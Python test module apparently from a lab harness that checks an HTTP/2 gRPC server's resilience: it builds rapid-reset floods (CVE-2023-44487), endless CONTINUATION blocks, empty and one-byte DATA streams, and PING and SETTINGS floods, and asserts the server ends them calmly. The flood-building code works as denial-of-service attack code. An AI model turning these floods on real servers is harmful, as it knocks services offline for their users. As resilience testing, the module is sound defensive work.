"""Frames that cost nothing to send, as many as the line carries."""

import threading
import time

from attacks import sizes
from attacks.lab import INGEST, SERVE
from attacks.wire import ERRORS, INGEST_RPC, PULL_RPC, continuation_frame, fields_of, headers_frame, message, name_of
from hyperframe.frame import DataFrame, PingFrame, RstStreamFrame, SettingsFrame

RESETS = 100_000
STREAMS_EACH = 1_000


def reset_batch(encoder, first, count):
    """HEADERS and RST_STREAM of many streams, as one piece."""
    out = bytearray()
    for stream in range(first, first + 2 * count, 2):
        out += headers_frame(stream, encoder.encode(fields_of(PULL_RPC)), "END_HEADERS")
        out += RstStreamFrame(stream, error_code=8).serialize()
    return bytes(out)


def rapid_reset(row, lab):
    """CVE-2023-44487: calls that are cancelled at once, on as many connections as it takes."""
    wanted, begun, sent, endings = lab.long(RESETS, RESETS // 5), time.monotonic(), 0, {}
    with lab.site(row, SERVE) as site:
        if not site:
            return
        while sent < wanted and time.monotonic() - begun < lab.long(60, 15):
            wire = site.wire()
            while wire.closed is None and wire.goaway is None and sent < wanted and wire.next_stream < 2 * wanted:
                batch = reset_batch(wire.encoder, wire.next_stream, STREAMS_EACH)
                wire.next_stream += 2 * STREAMS_EACH
                if not wire.send(batch, 5):
                    break
                sent += STREAMS_EACH
            wire.until(lambda wire=wire: wire.goaway is not None, 0.2)
            how = name_of(wire.goaway, ERRORS) if wire.goaway is not None else wire.closed or "taken"
            endings[how] = endings.get(how, 0) + 1
            wire.close()
            site.wires.remove(wire)
            sent += 0 if wire.closed is None else STREAMS_EACH
        ends = ", ".join(f"{count} {how}" for how, count in endings.items())
        row.answered(f"up to {sent:,} resets on {sum(endings.values())} connections: {ends}")
        calm = {"ENHANCE_YOUR_CALM", "closed", "reset", "taken"}
        row.must(set(endings) <= calm, f"connections ended with {endings}")


def continuations(row, lab):
    """A header block that never ends: in frames of the largest size, and in empty ones."""
    with lab.site(row, SERVE, memory=16) as site:
        if not site:
            return
        for size, name in ((16_384, "full frames"), (0, "empty frames")):
            wire = site.wire()
            wire.until(lambda wire=wire: wire.settings, 5)
            wire.send(headers_frame(1, wire.encoder.encode(fields_of(PULL_RPC))))
            # A literal that is not indexed, again and again: a right beginning for as long as it lasts.
            block = (b"\x00\x01x\x7f\xff\x01" * (size // 6 + 1))[:size]
            each = 64
            count = wire.pour(continuation_frame(1, block) * each, lab.long(10, 3))
            row.answered(f"{name}: {wire.told()}")
            row.must(wire.goaway is not None or wire.closed, f"{name}: {count * each} were taken, {wire.told()}")
            row.must(wire.goaway in (None, 11, 1, 9), f"{name}: {wire.told()}")


def empty_data(row, lab):
    """DATA frames without data, into a stream that would take rows."""
    with lab.site(row, INGEST, memory=16) as site:
        if not site:
            return
        wire = site.wire()
        stream = wire.call(INGEST_RPC)
        wire.data(stream, message(sizes.metadata()))
        count = 500 * wire.pour(DataFrame(stream, b"").serialize() * 500, lab.long(10, 3))
        state = wire.streams[stream]
        row.answered(f"{wire.told()}, stream {state.told()}, after {count:,} frames")
        row.must(wire.goaway is not None or wire.closed or state.is_over(), f"{count:,} empty frames were taken")


def tiny_data(row, lab):
    """A whole message, a byte in each frame: lawful, and must cost time only."""
    with lab.site(row, INGEST, memory=32) as site:
        if not site:
            return
        wire = site.wire()
        stream = wire.call(INGEST_RPC)
        wire.data(stream, message(sizes.metadata()))
        body = message(sizes.padded(sizes.one_row(), 8 << 20))
        end, at, state = time.monotonic() + lab.long(10, 3), 0, wire.streams[stream]
        while time.monotonic() < end and wire.closed is None and not state.is_over() and at < len(body):
            room = min(2_000, state.window, wire.window, len(body) - at)
            if room > 0:
                wire.send(b"".join(DataFrame(stream, body[at + n : at + n + 1]).serialize() for n in range(room)), 2)
                state.window, wire.window, at = state.window - room, wire.window - room, at + room
            wire.pump(0 if room > 0 else 0.05)
        row.answered(f"{wire.told()}, stream {state.told()}, after {at:,} frames")
        row.must(wire.goaway in (None, 11), f"{at:,} frames of one byte: {wire.told()}")


def paced(wire, frame, each_second, seconds, reads, counts):
    """Frames at a rate, in batches of a hundredth of a second."""
    end, batch, count = time.monotonic() + seconds, frame * (each_second // 100), 0
    while time.monotonic() < end and wire.closed is None:
        begin = time.monotonic()
        count += each_second // 100 if wire.pour(batch, end - begin, reads=reads, most=1) else 0
        time.sleep(max(0, 0.01 - (time.monotonic() - begin)))
    counts.append(count)


def control_flood(row, lab, frame):
    """A control frame 10,000 times a second, by one who reads the answers and by one who does not, and by four as fast as they can."""
    with lab.site(row, SERVE, memory=16) as site:
        if not site:
            return
        for reads, name in ((True, "read"), (False, "unread")):
            wire, counts = site.wire(), []
            paced(wire, frame, 10_000, lab.long(10, 1.5), reads, counts)
            row.answered(f"{name}: {wire.told()} after {counts[0]:,}")
            row.must(wire.goaway in (None, 11), f"{name}: {wire.told()}")
        wires = [site.wire() for _ in range(4)]
        threads = [threading.Thread(target=wire.pour, args=(frame * 500, lab.long(10, 1.5))) for wire in wires]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        row.answered("four at full speed: " + ", ".join(sorted({wire.told() for wire in wires})))
        row.must(all(wire.goaway in (None, 11) for wire in wires), "a flood led to another GOAWAY than ENHANCE_YOUR_CALM")


def pings(row, lab):
    control_flood(row, lab, PingFrame(0, b"attacked").serialize())


def settings(row, lab):
    control_flood(row, lab, SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize())
